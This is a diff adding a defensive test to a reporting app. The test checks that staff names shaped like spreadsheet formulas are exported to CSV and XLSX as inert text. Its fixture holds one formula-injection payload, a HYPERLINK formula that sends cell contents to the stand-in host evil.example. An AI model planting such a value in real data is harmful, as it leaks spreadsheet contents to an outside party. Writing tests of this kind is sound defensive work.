@@ -191,6 +191,25 @@ def test_csv_and_xlsx_exports(client, tickets):
     assert row[header.index("Persentase tepat janji")] == 66.7 and len(book.worksheets) == 2
 
 
+def test_exported_names_that_look_like_formulas_stay_text(client, tickets):
+    """A staff or officer name is a label in the exports: "=HYPERLINK(...)" must not
+    become a live formula in the spreadsheet a supervisor opens."""
+    agent = make_user("agent", email="formula@example.org")
+    agent.name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    tickets["A"].assignee_id = agent.id
+    db.session.commit()
+    supervisor(client)
+    text = client.get(f"/reports/export.csv?dim=agent&{ARGS}").get_data(as_text=True)
+    labels = [row["label"] for row in csv.DictReader(io.StringIO(text))]
+    assert "'" + agent.name in labels
+    assert not any(label[:1] in ("=", "+", "-", "@") for label in labels)
+    data = client.get(f"/reports/export.xlsx?dim=agent&{ARGS}").get_data()
+    summary, backlog = load_workbook(io.BytesIO(data)).worksheets
+    assert agent.name in [cell.value for row in summary.iter_rows() for cell in row]
+    for sheet in (summary, backlog):
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
 def test_the_monthly_pdf_of_one_opd(client, tickets):
     supervisor(client)
     response = client.get("/reports/opd/DLH/2026-11.pdf")
